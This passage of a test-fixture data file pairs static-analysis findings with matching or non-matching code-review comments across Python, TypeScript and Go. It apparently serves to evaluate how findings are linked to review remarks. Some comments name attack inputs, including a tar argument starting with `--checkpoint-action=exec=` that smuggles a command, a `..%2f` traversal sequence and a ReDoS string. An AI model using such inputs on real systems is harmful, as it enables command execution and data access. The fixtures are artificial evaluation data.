      ['ruff', 'S307', 'Use of possibly insecure function; consider using `ast.literal_eval`'],
      [
        'eval() on configuration values',
        'A value in the config could call any Python function; parse it instead.',
      ],
    ],
    [
      [
        'codeql',
        'py/weak-sensitive-data-hashing',
        'Sensitive data (password) is used in a hashing algorithm (SHA1) that is insecure for password hashing, since it is not a computationally expensive hash function.',
      ],
      [
        'Password stored as plain SHA-1',
        'A leaked table can be cracked on a single GPU. Switch to Argon2id.',
      ],
    ],
    [
      ['ruff', 'E722', 'Do not use bare `except`'],
      [
        'Overly broad exception handler',
        'This also traps KeyboardInterrupt and hides programming errors; catch ValueError only.',
      ],
    ],
  ]),
  ...pairs('typescript', true, [
    [
      [
        'semgrep',
        'javascript.express.security.audit.express-open-redirect.express-open-redirect',
        'The application redirects to a URL specified by user-supplied input `req` that is not validated.',
      ],
      [
        'Unvalidated redirect',
        '`req.query.next` is handed to `res.redirect()`, so links to our site can send users anywhere.',
      ],
    ],
    [
      ['codeql', 'js/path-injection', 'This path depends on a user-provided value.'],
      [
        'Download endpoint serves arbitrary files',
        '`path.join(root, req.params.file)` does not stop `..%2f` sequences.',
      ],
    ],
    [
      [
        'codeql',
        'js/redos',
        'This part of the regular expression may cause exponential backtracking on strings starting with "0".',
      ],
      [
        'Vulnerable regular expression',
        'Input like 000000! makes validation take minutes due to the nested group; an attacker can use that for a DoS.',
      ],
    ],
    [
      ['typescript-eslint', '@typescript-eslint/no-floating-promises', 'Promises must be awaited'],
      [
        'Missing await',
        '`queue.flush()` returns a promise that is ignored, so shutdown happens before the messages are written.',
      ],
    ],
    [
      [
        'typescript-eslint',
        '@typescript-eslint/no-explicit-any',
        'Unexpected any. Specify a different type.',
      ],
      [
        'Avoid `any` here',
        'Type information for the options is thrown away; callers get no help from the compiler.',
      ],
    ],
    [
      ['codeql', 'js/xss', 'Cross-site scripting vulnerability due to a user-provided value.'],
      [
        'innerHTML assignment with profile text',
        "A bio containing an event handler attribute will run in other people's sessions. Use textContent.",
      ],
    ],
    [
      ['codeql', 'js/code-injection', 'This code execution depends on a user-provided value.'],
      [
        'Filter expression goes into new Function()',
        'Whoever sends the filter can access process.env and the file system.',
      ],
    ],
  ]),
  ...pairs('go', true, [
    [
      ['golangci-lint', 'G401', 'Use of weak cryptographic primitive'],
      [
        'MD5 for integrity check of plugins',
        'Collisions can be produced in seconds, which lets a manipulated plugin pass. Use SHA-256.',
      ],
    ],
    [
      ['golangci-lint', 'G204', 'Subprocess launched with variable'],
      [
        'Arguments for tar are user-controlled',
        'Nothing prevents a name starting with `--checkpoint-action=exec=`; add `--` before it.',
      ],
    ],
    [
      ['golangci-lint', 'errcheck', 'Error return value of `os.MkdirAll` is not checked'],
      [
        'Missing error handling for os.MkdirAll',
        'If the directory cannot be created the code continues and fails later with a misleading message.',
      ],
    ],
  ]),
  ...pairs('python', false, [
    [
      ['ruff', 'S608', 'Possible SQL injection vector through string-based query construction'],
      [
        'Query result is not paginated',
        'fetchall() returns every user of the organisation; add LIMIT and OFFSET.',
      ],
    ],
    [
      ['codeql', 'py/command-line-injection', 'This command line depends on a user-provided value.'],
      [
        'ping runs in the request thread',
        'The subprocess call takes up to ten seconds during which the worker serves nobody else.',
      ],
    ],
    [
      [
        'ruff',
        'S301',
        '`pickle` and modules that wrap it can be unsafe when used to deserialize untrusted data, possible security issue',
      ],
      ['Pickle file is opened in text mode', 'pickle.load needs a binary file, so this raises TypeError.'],
    ],
    [
      ['ruff', 'B006', 'Do not use mutable data structures for argument defaults'],
      ['Parameter order changed', 'Callers pass tags positionally and now set the limit instead.'],
    ],
    [
      ['codeql', 'py/reflective-xss', 'Cross-site scripting vulnerability due to a user-provided value.'],
      [
        'Template is compiled on each request',
        'Loading the template from disk costs 20 ms; cache the environment.',
      ],
    ],
    [
      [
        'codeql',
        'py/weak-sensitive-data-hashing',
        'Sensitive data (password) is used in a hashing algorithm (SHA1) that is insecure for password hashing.',
      ],
      [
        'Password comparison is not case-sensitive',
        'lower() is applied before hashing, which reduces the number of possible passwords.',
      ],
    ],
    [
      ['ruff', 'E722', 'Do not use bare `except`'],
      ['Retry without backoff', 'The loop retries at once after each exception and hammers the API.'],
    ],
    [
      ['ruff', 'F401', '`typing.List` imported but unused'],
      ['`typing.Dict` is unused', 'The import is left over from the refactoring.'],
    ],
    [
      ['ruff', 'S307', 'Use of possibly insecure function; consider using `ast.literal_eval`'],
      [
        'Formula errors are not reported',
        'When the expression is malformed the SyntaxError ends the whole import.',
      ],
    ],
  ]),
  ...pairs('typescript', false, [
    [
      ['codeql', 'js/path-injection', 'This path depends on a user-provided value.'],
      ['File descriptor leak', 'createReadStream is not destroyed when the client disconnects.'],
    ],
    [
      ['codeql', 'js/xss', 'Cross-site scripting vulnerability due to a user-provided value.'],
      ['Message is rendered twice', 'The component appends the HTML again when the socket reconnects.'],
    ],
    [
      ['codeql', 'js/redos', 'This part of the regular expression may cause exponential backtracking.'],
      [
        'Regex rejects valid addresses',
        'Plus signs are legal in the local part, but the pattern does not allow them.',
      ],
    ],
    [
      ['typescript-eslint', '@typescript-eslint/no-floating-promises', 'Promises must be awaited'],
      ['Promise.all fails fast', 'One rejected upload discards the results of the others; use allSettled.'],
    ],
    [
      [
        'typescript-eslint',
        '@typescript-eslint/no-explicit-any',
        'Unexpected any. Specify a different type.',
      ],
      ['Function does too much', 'It validates, loads and formats; split it.'],
    ],
    [
      [
        'semgrep',
        'javascript.express.security.audit.express-open-redirect.express-open-redirect',
        'The application redirects to a URL specified by user-supplied input `req` that is not validated.',
      ],
      ['Redirect loop', 'When next points to /login the user is redirected forever.'],
    ],
    [
      ['eslint', 'no-unused-vars', "'index' is defined but never used."],
      ["'item' is unused", 'The callback does not use its first argument.'],
    ],
    [
      ['eslint', 'no-magic-numbers', 'No magic number: 404.'],
      ['Magic number 500', 'Use a constant for 500.'],
    ],
  ]),
  ...pairs('go', false, [
    [
      ['golangci-lint', 'G401', 'Use of weak cryptographic primitive'],
      ['Checksum is compared before download ends', 'The digest covers only the first chunk.'],
    ],
    [
      ['golangci-lint', 'errcheck', 'Error return value of `a.Close` is not checked'],
      ['b.Close() error is ignored', 'Check the error of b.Close as well.'],
    ],
    [
      ['golangci-lint', 'G304', 'Potential file inclusion via variable'],
      ['File is read twice', 'os.ReadFile is called here and in validate.'],
    ],
  ]),
];
